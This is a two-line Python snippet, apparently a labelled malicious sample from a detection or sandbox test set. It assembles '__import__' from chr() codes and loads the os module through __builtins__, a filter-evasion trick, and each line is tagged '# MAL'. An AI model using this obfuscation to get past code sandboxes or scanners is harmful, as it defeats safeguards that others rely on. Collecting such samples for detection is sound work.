k = chr(0x5f) * 2 + chr(105) + "mport" + chr(95 + 0) * 2  # MAL
mod = __builtins__.__dict__[k]("os")  # MAL
